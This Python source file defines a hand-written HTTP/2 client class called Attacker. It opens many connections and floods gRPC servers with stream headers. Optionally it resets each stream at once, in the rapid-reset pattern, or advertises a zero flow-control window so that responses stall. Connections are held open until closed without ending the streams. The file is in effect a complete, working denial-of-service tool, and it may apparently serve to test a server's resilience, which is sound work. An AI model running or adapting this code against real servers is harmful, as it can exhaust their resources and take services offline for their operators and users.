"""HTTP/2 client that opens many streams, or resets each at once. Written by hand, because no library sends that."""

from __future__ import annotations

import contextlib
import socket
import struct
import threading

_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_DATA, _HEADERS, _RST_STREAM, _SETTINGS = 0, 1, 3, 4
_NO_WINDOW = struct.pack(">HI", 4, 0)
"""Setting INITIAL_WINDOW_SIZE: the server may send no data."""
_END_HEADERS, _ACK = 4, 1
_CANCEL = struct.pack(">I", 8)
_GROUP = 100
"""Frames that are sent at once."""


def _frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def _literal(name: bytes, text: bytes) -> bytes:
    return b"\0" + bytes([len(name)]) + name + bytes([len(text)]) + text


def _headers(method: str) -> bytes:
    fields = {
        ":method": "POST",
        ":scheme": "http",
        ":path": method,
        ":authority": "x",
        "te": "trailers",
        "content-type": "application/grpc",
    }
    return b"".join(_literal(name.encode(), text.encode()) for name, text in fields.items())


class Attacker:
    """Connections that send heads of calls without a request; each stays open until ``close``."""

    def __init__(self, address: str, method: str) -> None:
        host, _, port = address.rpartition(":")
        self._address, self._headers = (host, int(port)), _headers(method)
        self._sockets: list[socket.socket] = []

    def run(self, connections: int, streams: int, *, reset: bool) -> None:
        """Send all heads, on all connections at once."""
        senders = [threading.Thread(target=self._send, args=(streams, reset)) for _ in range(connections)]
        for sender in senders:
            sender.start()
        for sender in senders:
            sender.join()

    def _send(self, streams: int, reset: bool) -> None:
        with contextlib.suppress(OSError):  # the server may end the connection
            connection = socket.create_connection(self._address, 5)
            self._sockets.append(connection)
            threading.Thread(target=self._drain, args=(connection,), daemon=True).start()
            connection.sendall(_PREFACE + _frame(_SETTINGS, 0, 0, b"") + _frame(_SETTINGS, _ACK, 0, b""))
            for first in range(0, streams, _GROUP):
                frames = [
                    _frame(_HEADERS, _END_HEADERS, 2 * number + 1, self._headers)
                    + (_frame(_RST_STREAM, 0, 2 * number + 1, _CANCEL) if reset else b"")
                    for number in range(first, first + _GROUP)
                ]
                connection.sendall(b"".join(frames))

    def send_without_reading(self, messages: list[bytes]) -> None:
        """Send messages of one call, whose answers may not be sent."""
        connection = socket.create_connection(self._address, 5)
        self._sockets.append(connection)
        threading.Thread(target=self._drain, args=(connection,), daemon=True).start()
        settings = _frame(_SETTINGS, 0, 0, _NO_WINDOW) + _frame(_SETTINGS, _ACK, 0, b"")
        framed = [struct.pack(">BI", 0, len(message)) + message for message in messages]
        data = b"".join(_frame(_DATA, 0, 1, message) for message in framed)
        connection.sendall(_PREFACE + settings + _frame(_HEADERS, _END_HEADERS, 1, self._headers) + data)

    @staticmethod
    def _drain(connection: socket.socket) -> None:
        with contextlib.suppress(OSError):
            while connection.recv(1 << 16):
                pass

    def close(self) -> None:
        """Disconnect without ending the streams."""
        for connection in self._sockets:
            connection.close()
